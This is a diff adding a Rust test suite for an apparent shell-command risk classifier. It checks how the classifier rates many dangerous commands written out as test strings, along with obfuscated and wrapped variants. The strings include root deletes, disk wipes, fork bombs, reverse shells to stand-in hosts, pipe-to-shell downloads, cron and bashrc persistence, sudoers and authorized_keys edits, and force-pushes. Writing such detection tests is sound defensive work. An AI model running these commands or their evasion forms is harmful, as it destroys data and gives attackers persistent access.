@@ -1,0 +1,350 @@
+//! Dangerous commands: every class, every obfuscation, every wrapper.
+
+use super::check;
+use hostguard_risk_core::ExecClass::*;
+
+#[test]
+fn recursive_delete_of_root_or_home() {
+    let c = Some(RecursiveDeleteRootOrHome);
+    check("rm -rf /", c);
+    check("rm -rf /*", c);
+    check("rm -rf ~", c);
+    check("rm -rf ~/", c);
+    check("rm -rf $HOME", c);
+    check("rm -rf ${HOME}/*", c);
+    check("rm -rf /home", c);
+    check("rm -rf /home/alice", c);
+    check("rm -rf /etc", c);
+    check("rm -rf /usr/", c);
+    check("rm -r -f /var", c);
+    check("rm --recursive --force /boot", c);
+    check("rm -rf --no-preserve-root /", c);
+    check("rm -fr -- /", c);
+    check("rm -Rf /tmp/../", c);
+    check("rm -rf //", c);
+    check("/bin/rm -rf /", c);
+    check("cd / && rm -rf *", c);
+    check("cd ~; rm -rf .", c);
+    check("find / -delete", c);
+    check("find ~ -exec rm -rf {} +", c);
+    check("rm -rf /e*", c);
+}
+
+#[test]
+fn obfuscations() {
+    let c = Some(RecursiveDeleteRootOrHome);
+    check("r''m -rf /", c);
+    check("r\"\"m -rf /", c);
+    check("\\rm -rf /", c);
+    check("$'\\x72\\x6d' -rf /", c);
+    check("$'rm' -rf /", c);
+    check("rm${IFS}-rf${IFS}/", c);
+    check("rm$IFS-rf$IFS/", c);
+    check("rm -rf ${PATH:0:1}", c);
+    check("{rm,-rf,/}", c);
+    check("a=rm; $a -rf /", c);
+    check("x='rm -rf /'; $x", c);
+    check("$(echo rm) -rf /", c);
+    check("`echo rm` -rf /", c);
+    check("$(echo cm0gLXJmIC8= | base64 -d)", Some(PipeToShell));
+    check("$(echo '/ fr- mr' | rev)", Some(PipeToShell));
+    check("echo hi;rm -rf /", c);
+    check("true && rm -rf / || true", c);
+    check("ls | rm -rf /", c);
+    check("sleep 1 & rm -rf /", c);
+    check("ls\nrm -rf /", c);
+    check("(rm -rf /)", c);
+    check("{ rm -rf /; }", c);
+    check("if true; then rm -rf /; fi", c);
+    check("while true; do rm -rf ~; done", c);
+    check("echo $(rm -rf /)", c);
+    check("echo `rm -rf ~`", c);
+    check("cat <(rm -rf /)", c);
+    check("/bin/r? -rf /", c);
+    check("/???/r[m] -rf /", c);
+    check("export x=/; rm -rf $x", c);
+    check("a=r b=m; $a$b -rf /", c);
+    check("sh -c '$0 $1 $2' rm -rf /", c);
+    check("bash -c '$0 -rf $1' rm ~", c);
+    check("echo / | xargs rm -rf", c);
+    check("printf '\\x72\\x6d -rf /' | sh", c);
+    check("echo -e '\\x72m -rf /' | bash", c);
+    check("bash <(echo 'rm -rf /')", c);
+    check("sh < <(echo 'rm -rf ~')", c);
+    check("cat <<EOF | sh\nrm -rf /\nEOF", c);
+    check("rm -rf \\\n /", c);
+    check("rm\t-rf\t/", c);
+}
+
+#[test]
+fn wrappers() {
+    let c = Some(RecursiveDeleteRootOrHome);
+    check("sudo rm -rf /", c);
+    check("sudo -u root -E rm -rf /", c);
+    check("sudo -- rm -rf /", c);
+    check("doas rm -rf /", c);
+    check("env rm -rf /", c);
+    check("env -i FOO=1 rm -rf /", c);
+    check("/usr/bin/env rm -rf /", c);
+    check("nohup rm -rf / &", c);
+    check("timeout 10 rm -rf /", c);
+    check("timeout -s KILL 5m rm -rf /", c);
+    check("echo / | xargs rm -rf /", c);
+    check("xargs -0 -n1 rm -rf /", c);
+    check("command rm -rf /", c);
+    check("exec rm -rf /", c);
+    check("nice -n 10 rm -rf /", c);
+    check("nice rm -rf /", c);
+    check("stdbuf -o0 rm -rf /", c);
+    check("time rm -rf /", c);
+    check("FOO=bar rm -rf /", c);
+    check("bash -c 'rm -rf /'", c);
+    check("sh -c \"rm -rf ~\"", c);
+    check("zsh -c 'rm -rf /'", c);
+    check("dash -c 'rm -rf /'", c);
+    check("bash -lc 'rm -rf /'", c);
+    check("sudo bash -c 'cd / && rm -rf *'", c);
+    check("su -c 'rm -rf /' root", c);
+    check("eval 'rm -rf /'", c);
+    check("env -S 'rm -rf /'", c);
+    check("sudo nohup nice -n 5 timeout 60 env X=1 rm -rf /", c);
+    check("bash -c \"bash -c 'rm -rf /'\"", c);
+    check("bash <<EOF\nrm -rf /\nEOF", c);
+    check("bash <<< 'rm -rf /'", c);
+    check("echo 'rm -rf /' | sh", c);
+    check("ssh host 'rm -rf /'", c);
+}
+
+#[test]
+fn devices_and_disks() {
+    check("dd if=/dev/zero of=/dev/sda bs=1M", Some(DeviceWrite));
+    check("dd if=x.img of=/dev/nvme0n1", Some(DeviceWrite));
+    check("cat /dev/urandom > /dev/sda", Some(DeviceWrite));
+    check("echo x >/dev/sdb1", Some(DeviceWrite));
+    check("cp disk.img /dev/mmcblk0", Some(DeviceWrite));
+    check("tee /dev/sda < x", Some(DeviceWrite));
+    check("mkfs.ext4 /dev/sda1", Some(DiskWipe));
+    check("mkfs -t xfs /dev/sdb", Some(DiskWipe));
+    check("sudo wipefs -a /dev/sda", Some(DiskWipe));
+    check("shred -n 3 /dev/sda", Some(DiskWipe));
+    check("blkdiscard /dev/nvme0n1", Some(DiskWipe));
+    check("sgdisk --zap-all /dev/sda", Some(DiskWipe));
+    check("parted /dev/sda mklabel gpt", Some(DiskWipe));
+}
+
+#[test]
+fn fork_bombs() {
+    check(":(){ :|:& };:", Some(ForkBomb));
+    check(":(){ :|: & };:", Some(ForkBomb));
+    check("bomb() { bomb | bomb & }; bomb", Some(ForkBomb));
+    check("function f { f & f & }; f", Some(ForkBomb));
+    check("f(){ f|f& }; f", Some(ForkBomb));
+    check("perl -e 'fork while fork'", Some(ForkBomb));
+    check("bash -c ':(){ :|:& };:'", Some(ForkBomb));
+    check("python3 -c 'import os\nwhile True: os.fork()'", Some(ForkBomb));
+}
+
+#[test]
+fn reverse_shells() {
+    let c = Some(ReverseShell);
+    check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", c);
+    check("sh -i > /dev/tcp/evil.example/9001 0<&1 2>&1", c);
+    check("exec 5<>/dev/tcp/10.0.0.1/80", c);
+    check("nc -e /bin/sh 10.0.0.1 4444", c);
+    check("nc 10.0.0.1 4444 -e /bin/bash", c);
+    check("ncat --exec /bin/bash 10.0.0.1 4444", c);
+    check("ncat -c bash 10.0.0.1 4444", c);
+    check("socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr", c);
+    check("socat TCP-LISTEN:4444 EXEC:bash", c);
+    check(
+        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
+        c,
+    );
+    check("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", c);
+    check("python3 -c 'import socket,pty;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"/bin/sh\")'", c);
+    check("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'", c);
+    check(
+        "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+        c,
+    );
+    check("ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", c);
+    check("sudo bash -c 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'", c);
+}
+
+#[test]
+fn pipe_to_shell() {
+    let c = Some(PipeToShell);
+    check("curl -fsSL https://get.example.sh | sh", c);
+    check("curl https://x.example/i.sh | bash", c);
+    check("wget -O- https://x.example/i.sh | bash", c);
+    check("wget -qO - https://x | sudo bash", c);
+    check("curl -s https://x | sudo -E bash -s -- --yes", c);
+    check("curl https://x | python3", c);
+    check("curl https://x | python -", c);
+    check("echo Y3VybCB4fHNo | base64 -d | sh", c);
+    check("echo Y3VybCB4fHNo | base64 --decode | bash", c);
+    check("base64 -d payload.txt | sh", c);
+    check("xxd -r -p x.hex | bash", c);
+    check("bash <(curl -s https://x)", c);
+    check("source <(curl -s https://x)", c);
+    check("sh -c \"$(curl -fsSL https://x)\"", c);
+    check("bash -c \"$(wget -qO- https://x)\"", c);
+    check("eval \"$(curl -s https://x)\"", c);
+    check("$(curl -s https://x)", c);
+    check("python3 -c \"$(curl -s https://x)\"", c);
+    check("x=$(curl -s https://x); eval \"$x\"", c);
+    check("curl https://x | tee install.sh | sh", c);
+    check("{ curl -s https://x; } | bash", c);
+    check("curl -s https://x | $SHELL", c);
+    check("curl -s https://x | source /dev/stdin", c);
+    check("wget -qO- https://x | busybox sh", c);
+    check("curl https://x | base64 -d | sh", c);
+}
+
+#[test]
+fn download_and_execute() {
+    let c = Some(DownloadAndExecute);
+    check("curl -o x https://e.example/x && chmod +x x && ./x", c);
+    check(
+        "curl -sSLo /tmp/i.sh https://e.example/i.sh; bash /tmp/i.sh",
+        c,
+    );
+    check("wget https://e.example/payload.sh; sh payload.sh", c);
+    check("wget -O run https://e.example/r && chmod 755 run", c);
+    check("curl -O https://e.example/tool && ./tool", c);
+    check("curl https://e.example/x > x.sh && . ./x.sh", c);
+}
+
+#[test]
+fn persistence() {
+    let c = Some(CronPersistence);
+    check("echo '* * * * * curl x|sh' | crontab -", Some(PipeToShell));
+    check(
+        "echo '@reboot rm -rf ~' | crontab -",
+        Some(RecursiveDeleteRootOrHome),
+    );
+    check("crontab -", c);
+    check("crontab mycron", c);
+    check("(crontab -l; echo '@reboot /tmp/x') | crontab -", c);
+    check("echo '* * * * * root /tmp/x' > /etc/cron.d/x", c);
+    check("echo x >> /etc/crontab", c);
+    check("cp x.service /etc/systemd/system/", c);
+    check(
+        "cat <<EOF > /etc/systemd/system/x.service\n[Service]\nExecStart=/tmp/x\nEOF",
+        c,
+    );
+    check("echo '/tmp/x &' >> /etc/rc.local", c);
+    check("curl -s https://x >> ~/.bashrc", c);
+    check(
+        "echo 'curl -s https://x | sh' >> ~/.bashrc",
+        Some(PipeToShell),
+    );
+    check("echo 'wget -q https://x -O /tmp/y' >> ~/.zshrc", c);
+    check("echo 'nohup /tmp/miner &' | tee -a ~/.profile", c);
+    check("cp evil ~/.bashrc", Some(StartupFileModification));
+    check("echo '/tmp/.x/miner &' >> ~/.bashrc", c);
+    check("curl -o ~/.bashrc https://x", c);
+    check("wget -O /etc/cron.d/job https://x", c);
+    check("echo 'curl -s https://x | sh' > .git/hooks/pre-commit", Some(PipeToShell));
+    check("echo 'wget https://x' > .git/hooks/post-checkout", c);
+}
+
+#[test]
+fn credentials() {
+    let c = Some(CredentialModification);
+    check("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", c);
+    check(
+        "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/x",
+        c,
+    );
+    check("echo 'hacker:x:0:0::/root:/bin/bash' >> /etc/passwd", c);
+    check("cp shadow.bak /etc/shadow", c);
+    check("sed -i 's/x/y/' /etc/shadow", c);
+    check("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", c);
+    check("cat key.pub >> /root/.ssh/authorized_keys", c);
+    check("echo /tmp/x.so > /etc/ld.so.preload", c);
+    check("echo 'root:pw' | chpasswd", c);
+    check("usermod -aG sudo mallory", c);
+    check("useradd -o -u 0 toor", c);
+    check("vim /etc/sudoers", c);
+    check("wget -O /etc/sudoers https://x", c);
+}
+
+#[test]
+fn escalation_shutdown_kill() {
+    check("chmod u+s /bin/bash", Some(PermissionEscalation));
+    check("chmod 4755 ./x", Some(PermissionEscalation));
+    check("chmod +s /usr/bin/find", Some(PermissionEscalation));
+    check("chmod -R 777 /", Some(PermissionEscalation));
+    check("chmod 777 /etc", Some(PermissionEscalation));
+    check(
+        "chown root:root /usr/local/bin/x",
+        Some(PermissionEscalation),
+    );
+    check("chown -R nobody /home", Some(PermissionEscalation));
+    check(
+        "setcap cap_setuid+ep /usr/bin/python3",
+        Some(PermissionEscalation),
+    );
+    check("shutdown -h now", Some(SystemShutdown));
+    check("sudo reboot", Some(SystemShutdown));
+    check("halt", Some(SystemShutdown));
+    check("poweroff", Some(SystemShutdown));
+    check("init 0", Some(SystemShutdown));
+    check("systemctl poweroff", Some(SystemShutdown));
+    check("echo b > /proc/sysrq-trigger", Some(SystemShutdown));
+    check("kill -9 1", Some(KillCriticalProcess));
+    check("kill -9 -1", Some(KillCriticalProcess));
+    check("kill -s KILL 1", Some(KillCriticalProcess));
+    check("pkill sshd", Some(KillCriticalProcess));
+    check("killall sshd", Some(KillCriticalProcess));
+    check("killall -9 systemd", Some(KillCriticalProcess));
+    check("kill -9 $(pidof sshd)", Some(KillCriticalProcess));
+    check("systemctl stop sshd", Some(KillCriticalProcess));
+}
+
+#[test]
+fn git_rewrites() {
+    check("git push --force origin main", Some(DestructiveGitRewrite));
+    check("git push -f origin master", Some(DestructiveGitRewrite));
+    check("git push -f", Some(DestructiveGitRewrite));
+    check("git push origin +main", Some(DestructiveGitRewrite));
+    check(
+        "git push --force-with-lease origin main",
+        Some(DestructiveGitRewrite),
+    );
+    check("git push --mirror", Some(DestructiveGitRewrite));
+    check("git push origin --delete main", Some(DestructiveGitRewrite));
+    check(
+        "git -C repo push -f origin HEAD:main",
+        Some(DestructiveGitRewrite),
+    );
+    check(
+        "git filter-branch --tree-filter 'rm -f x' HEAD",
+        Some(DestructiveGitRewrite),
+    );
+    check(
+        "git reflog expire --expire=now --all && git gc --prune=now",
+        Some(DestructiveGitRewrite),
+    );
+    check("git push -f origin feature/x", Some(GitForcePush));
+    check("git reset --hard origin/main", Some(GitDiscardWork));
+    check("git gc --prune=now", Some(GitDiscardWork));
+}
+
+#[test]
+fn strictest_wins_and_bounds() {
+    check(
+        "git push -f origin feature; rm -rf /",
+        Some(RecursiveDeleteRootOrHome),
+    );
+    check("reboot; curl x | sh", Some(PipeToShell));
+    let long = format!(
+        "echo {}",
+        "a".repeat(hostguard_risk_core::MAX_COMMAND_BYTES)
+    );
+    check(&long, Some(Unparsed));
+    let deep = format!("{}rm -rf /{}", "$(".repeat(40), ")".repeat(40));
+    let a = hostguard_risk_core::classify_command(&deep);
+    assert!(a.tier >= hostguard_risk_core::ExecTier::High, "{a:?}");
+}
